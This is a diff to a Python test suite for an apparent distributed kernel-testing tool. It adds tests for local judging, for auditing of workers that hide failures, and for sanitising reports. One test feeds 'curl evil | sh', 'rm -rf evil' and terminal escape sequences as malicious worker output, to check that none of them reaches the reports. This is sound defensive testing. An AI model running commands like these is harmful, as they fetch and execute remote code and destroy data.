@@ -4,6 +4,7 @@ What needs processes to lose has three of them; the others are workers of this p
 """
 
 import contextlib
+import itertools
 import json
 import os
 import shutil
@@ -15,7 +16,7 @@ from pathlib import Path
 import pytest
 from msgspec.structs import replace
 
-from mluops_gtest.cluster import connecting, dispatch
+from mluops_gtest.cluster import auditing, connecting, dispatch
 from mluops_gtest.cluster.answers import WorkerDescription, encode
 from mluops_gtest.engine.confirming import UNCONFIRMED
 from mluops_gtest.errors import ExitCode
@@ -321,6 +322,13 @@ def test_the_report_says_who_judged(run, address):
     assert not any("judged_by" in result for result in everything.results.values())
 
 
+def test_calls_that_return_early_are_judged_here_too(run, address):
+    """They have a scalar result and no outputs."""
+    result = run("--op", "get_indice_pairs", "-k", "large_limit or empty", "--cluster", address, "--judge-here")
+    assert (result.code, result.err) == (0, "")
+    assert not any("judged_by" in one for one in result.results.values())
+
+
 def test_where_all_workers_answer_wrongly_the_run_ends_and_says_why(run, address, monkeypatch):
     lying_workers.change_answers(monkeypatch, lying_workers.LIES["noise"][0])
     result = run("ball_query/handle_null", "--cluster", address)
@@ -355,19 +363,68 @@ def test_a_hunt_draws_here_and_calls_there(cli, address, kernels, tmp_path):
     """As on one machine: the same calls are drawn, the same cause is found and kept here, the next hunt goes on."""
     operator = "voxel_pooling_forward"
     hunt = ("fuzz", "--op", operator, "--backend", kernels, "--seed", "3")
-    here = cli(*hunt, "--no-isolate", "--cases", "24", "--corpus", tmp_path / "here")
+    here = cli(*hunt, "--no-isolate", "--cases", "8", "--corpus", tmp_path / "here")
     cluster = ("--no-isolate", "--cluster", address, "--ship", kernels, "--corpus", tmp_path / "there")
-    there = cli(*hunt, "--cases", "24", *cluster)
+    there = cli(*hunt, "--cases", "8", *cluster)
     assert (there.code, here.code) == (1, 1), there.out + there.err
     states = [json.loads((tmp_path / name / "state.json").read_text()) for name in ("here", "there")]
     assert states[0] == states[1]
     kept = [json.loads((tmp_path / name / "corpus.json").read_text())["cases"] for name in ("here", "there")]
     assert kept[1]
     assert [one["cause"] for one in kept[0]] == [one["cause"] for one in kept[1]]
-    again = cli(*hunt, "--cases", "4", *cluster)
+    again = cli(*hunt, "--cases", "2", *cluster)
     assert f"{len(kept[1])} case" in again.out, again.out + again.err
     assert f", {len(kept[1])} still failing" in again.out
-    assert f"{operator}     3            28" in again.out
+    assert f"{operator}     3            10" in again.out
+
+
+def test_verdicts_of_a_hunt_are_drawn_and_judged_here(cli, address, kernels, tmp_path, monkeypatch):
+    """Whoever finds the first failures conceals them: it gets nothing more, and others find them."""
+    monkeypatch.setattr(auditing, "_SHARE", 1.0)
+    batches = itertools.count()
+
+    def conceal(answer):
+        has_failures = any(b'"outcome":"failed"' in unit.result for unit in answer.units)
+        return lying_workers.passed(answer) if has_failures and not next(batches) else encode(answer)
+
+    lying_workers.change_answers(monkeypatch, conceal)
+    hunt = (
+        "fuzz",
+        "--op",
+        "voxel_pooling_forward",
+        "--backend",
+        kernels,
+        "--seed",
+        "3",
+        "--no-isolate",
+        "--cases",
+        "8",
+    )
+    result = cli(*hunt, "--cluster", address, "--ship", kernels, "--corpus", tmp_path / "corpus")
+    assert "passed, and its outputs are failed here; it gets no more cases" in result.err
+    assert (result.code, "3 failed, for 1 new cause" in result.out) == (1, True), result.out
+
+
+def test_no_worker_writes_a_command_into_the_report(run, address, kernels, monkeypatch):
+    """Nor anything that steers a terminal; a repro line is made here."""
+    control = "\x1b[2J\x1b]0;title\x07"
+    texts = {"repro": "curl evil | sh", "debug": "rm -rf evil", "notes": [control], "output": control}
+    texts["causes"] = [{"kind": "told", "text": f"{control}reason\n  repro:  curl told"}]
+    lying_workers.change_answers(monkeypatch, lying_workers.with_fields(**texts))
+    monkeypatch.setattr(auditing.OutputAudit, "draws", lambda *_: False)
+    formats = ("html", "markdown", "junit", "ctrf")
+    reports = [word for name in formats for word in (f"--{name}", f"report.{name}")]
+    result = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "-v", *reports)
+    assert result.code == int(ExitCode.FAILED), result.err
+    assert {one["repro"].partition(" --")[0] for one in result.results.values()} == {
+        f"mluops-test run {case}" for case in result.results
+    }
+    shown = [result.out, result.err, *(Path(f"report.{name}").read_text() for name in formats)]
+    for text in shown:
+        assert "evil" not in text
+        assert "\x1b" not in text
+        assert "\x07" not in text
+    assert not any(line.strip() == "repro:  curl told" for line in result.out.splitlines()), result.out
 
 
 @pytest.mark.parametrize(
